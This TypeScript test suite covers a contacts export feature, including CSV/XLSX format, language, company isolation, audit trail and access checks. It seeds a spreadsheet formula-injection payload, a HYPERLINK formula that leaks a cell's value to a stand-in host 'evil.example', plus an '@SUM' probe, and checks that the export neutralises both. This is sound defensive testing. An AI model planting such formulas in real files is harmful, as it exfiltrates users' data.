import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { buildTestApp, testDatabaseKind } from '@rapport/api/testing/build-test-app';
import { companyWithAdmin, refusal, signedIn, type SignedIn } from '@rapport/api/testing/company';
import { IMPORT_PREVIEW } from '@rapport/api/testing/contacts-import';
import { byHeader, csvRecords, EXPORTS, exportEntries, xlsxSheet } from '@rapport/api/testing/exports';
import { api } from '@rapport/api/testing/http';
import { contactOf, person } from '@rapport/api/testing/matching-people';
import type { App } from '../../app';
import { companyContacts } from '../../db/schema';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';

/**
 * Company Contacts as a file: the page's list in the admin's language, each status in the
 * page's words, formulas neutralised, readable back as CSV and XLSX, the active company's only,
 * and recorded in the trail.
 */
describe(`the contacts export (${testDatabaseKind})`, () => {
  let app: App;
  let http: ReturnType<typeof api>;
  let admin: SignedIn;
  let companyId: number;
  let other: { companyId: number; admin: SignedIn };

  beforeAll(async () => {
    app = await buildTestApp();
    http = api(app);
    ({ companyId, admin } = await companyWithAdmin(app, { name: 'Export Co' }));
    other = await companyWithAdmin(app, { name: 'Other Export Co' });
    const finished = await person(app, 'Marie', 'Curie', 0);
    const started = await person(app, 'Léa', 'Dupont');
    await contactOf(app, companyId, { person: finished, firstName: 'Marie', lastName: 'Curie' });
    await contactOf(app, companyId, { person: started, firstName: 'Léa', lastName: 'Dupont', confidential: true });
    const invited = await contactOf(app, companyId, { firstName: 'Ivan', lastName: 'Petrov', email: 'ivan@example.org' });
    await app.database.db.update(companyContacts).set({ invitationSent: true, phone: '+33 6 12 34 56 78', contactType: 'E' }).where(eq(companyContacts.id, invited.id));
    await contactOf(app, companyId, { firstName: HYPERLINK, lastName: '@SUM(1+1)', email: 'mallory@example.org' });
    await contactOf(app, other.companyId, { firstName: 'Someone', lastName: 'Else', email: 'else@example.org' });
  });
  afterAll(async () => {
    await app.close();
  });

  const exportContacts = (query: string, caller: SignedIn = admin, headers?: Record<string, string>) =>
    http.get(`${EXPORTS.contacts}?${query}`, { token: caller.token, headers });

  it('answers a CSV in English: UTF-8 with a BOM, an attachment named by the day, the status as the page says it', async () => {
    const res = await exportContacts('format=csv&lang=en');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers['cache-control']).toBe('private, no-store');
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = csvRecords(res.rawPayload);
    expect(records[0]).toEqual(['First name', 'Last name', 'E-mail', 'Phone', 'Role', 'Confidential', 'Status']);
    const rows = byHeader(records);
    expect(rows.map((row) => [row['First name'], row.Status, row.Confidential])).toEqual([
      ['Marie', 'Questionnaire completed', 'No'],
      ['Léa', 'Questionnaire in progress', 'Yes'],
      ['Ivan', 'Invitation sent', 'No'],
      [`'${HYPERLINK}`, 'Not invited yet', 'No'],
    ]);
    expect(rows.find((row) => row['First name'] === 'Ivan')).toEqual(
      expect.objectContaining({ 'E-mail': 'ivan@example.org', Phone: "'+33 6 12 34 56 78", Role: 'Employee' }),
    );
    // another company's contact is not in it
    expect(res.body).not.toContain('else@example.org');
  });

  it('neutralises every cell a spreadsheet would read as a formula, and nothing else', async () => {
    const rows = byHeader(csvRecords((await exportContacts('format=csv&lang=en')).rawPayload));
    const mallory = rows.find((row) => row['E-mail'] === 'mallory@example.org');
    expect(mallory).toEqual(expect.objectContaining({ 'First name': `'${HYPERLINK}`, 'Last name': "'@SUM(1+1)" }));
    // no cell of the file starts with a formula's character
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.find((row) => row['First name'] === 'Marie')?.['Last name']).toBe('Curie');
  });

  it('answers an XLSX in French that exceljs reads back: a bold header, the words in French, the formula as text', async () => {
    const res = await exportContacts('format=xlsx&lang=fr');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const sheet = await xlsxSheet(res.rawPayload);
    expect(sheet.name).toBe('Contacts de l’entreprise');
    expect(sheet.rows[0]).toEqual(['Prénom', 'Nom', 'E-mail', 'Téléphone', 'Rôle', 'Confidentiel', 'Statut']);
    expect(sheet.cell('A1').font?.bold).toBe(true);
    const rows = byHeader(sheet.rows);
    expect(rows.map((row) => [row.Prénom, row.Statut, row.Confidentiel, row.Rôle])).toEqual([
      ['Marie', 'Questionnaire terminé', 'Non', 'Candidat'],
      ['Léa', 'Questionnaire en cours', 'Oui', 'Candidat'],
      ['Ivan', 'Invitation envoyée', 'Non', 'Salarié'],
      [`'${HYPERLINK}`, 'Pas encore invité', 'Non', 'Candidat'],
    ]);
    // a text cell, never a formula
    expect(sheet.cell('A5').type).toBe(ExcelJS.ValueType.String);
    expect(sheet.cell('A5').formula).toBeUndefined();
  });

  it("speaks the request's language when none is asked", async () => {
    const res = await exportContacts('format=csv', admin, { 'accept-language': 'fr-FR,fr;q=0.9,en;q=0.5' });
    expect(csvRecords(res.rawPayload)[0]).toEqual(['Prénom', 'Nom', 'E-mail', 'Téléphone', 'Rôle', 'Confidentiel', 'Statut']);
  });

  it('gives a file the contacts import reads again: every column recognised', async () => {
    const file = (await exportContacts('format=csv&lang=fr')).rawPayload.toString('base64');
    const res = await http.post(IMPORT_PREVIEW, { file_name: 'contacts.csv', file }, { token: admin.token });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual(
      expect.objectContaining({ columns: ['first_name', 'last_name', 'email', 'phone', 'contact_type', 'confidential', null], missing: [] }),
    );
  });

  it('records each export in the trail: who, from where, which export, format, language and rows', async () => {
    const { companyId: company, admin: someone } = await companyWithAdmin(app, { name: 'Trail Export Co' });
    await contactOf(app, company, { firstName: 'Ada', lastName: 'Lovelace' });
    await http.get(`${EXPORTS.contacts}?format=xlsx&lang=fr`, { token: someone.token, ip: '203.0.113.7' });
    const entries = await exportEntries(app, company);
    expect(entries.map(({ actorUserId, actorEmail, ip, subject, detail }) => ({ actorUserId, actorEmail, ip, subject, detail }))).toEqual([
      {
        actorUserId: someone.id,
        actorEmail: someone.email,
        ip: '203.0.113.7',
        subject: 'Company contacts',
        detail: { export: 'contacts', format: 'xlsx', lang: 'fr', rows: 1 },
      },
    ]);
  });

  it('refuses a caller without a company, without a token, and a format or language it does not make', async () => {
    const individual = await signedIn(app);
    expect((await exportContacts('format=csv', individual)).statusCode).toBe(403);
    expect((await http.get(`${EXPORTS.contacts}?format=csv`)).statusCode).toBe(401);
    const badFormat = await exportContacts('format=pdf');
    expect({ status: badFormat.statusCode, body: badFormat.json() }).toEqual({ status: 400, body: refusal('format: Must be one of csv, xlsx') });
    expect((await exportContacts('format=csv&lang=de')).statusCode).toBe(400);
    expect((await exportContacts('')).statusCode).toBe(400);
    // none of them is recorded
    expect(await exportEntries(app, other.companyId)).toEqual([]);
  });

  it("gives another company's admin their own contacts only", async () => {
    const rows = byHeader(csvRecords((await exportContacts('format=csv&lang=en', other.admin)).rawPayload));
    expect(rows.map((row) => row['E-mail'])).toEqual(['else@example.org']);
  });
});
